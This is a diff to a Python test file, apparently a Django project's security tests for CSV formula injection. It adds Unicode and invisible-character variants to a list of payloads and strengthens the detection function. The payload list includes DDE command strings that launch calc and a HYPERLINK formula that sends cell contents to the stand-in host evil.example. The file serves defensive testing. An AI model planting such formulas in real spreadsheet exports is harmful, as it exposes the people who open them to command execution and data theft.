@@ -3,7 +3,9 @@
 import csv
 import io
 import re
+import string
 from datetime import date
+from unicodedata import normalize
 
 import pytest
 from django.core.management import call_command
@@ -17,6 +19,8 @@ from tests.security.patterns import ROOT, sources
 FORMULAS = [f"{start}cmd|' /C calc'!A0" for start in FORMULA_STARTS] + [
     '=HYPERLINK("https://evil.example/?x="&A1,"open")',
     "  =1+1",
+    *("＝1+1", "＋1", "－1+1", "＠sum", "﹦1+1", "﹢1", "﹣1", "﹫sum"),
+    *("\u200b=1+1", "\ufeff=1+1", "\u200e+1", "\u00ad-1+1", "\x00=1+1", "\u2060\u00a0@sum", "\u034f=1+1"),
     "\u3000＝1+1",
     "a\r=1+1",
     "a\n=1+1",
@@ -28,6 +32,7 @@ FORMULAS = [f"{start}cmd|' /C calc'!A0" for start in FORMULA_STARTS] + [
     '";=1+1;"',
     "a,\r-2+3",
 ]
+UNSEEN = "\u200b\ufeff\u200e\u00ad\x00\u2060\u00a0\u034f\u3000"
 DELIMITERS = ",;\t|"  # what programs take for the border of two cells, each in some country
 
 
@@ -41,7 +46,9 @@ def cells(text: str) -> list[str]:
 
 
 def runs(cell: str) -> bool:
-    return cell.lstrip().startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)
+    shown = normalize("NFKC", cell.lstrip(UNSEEN + string.whitespace)[:1])
+    begun = cell.startswith(FORMULA_STARTS) or shown in ("=", "+", "-", "@")
+    return begun and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)
 
 
 @pytest.mark.parametrize("text", FORMULAS)
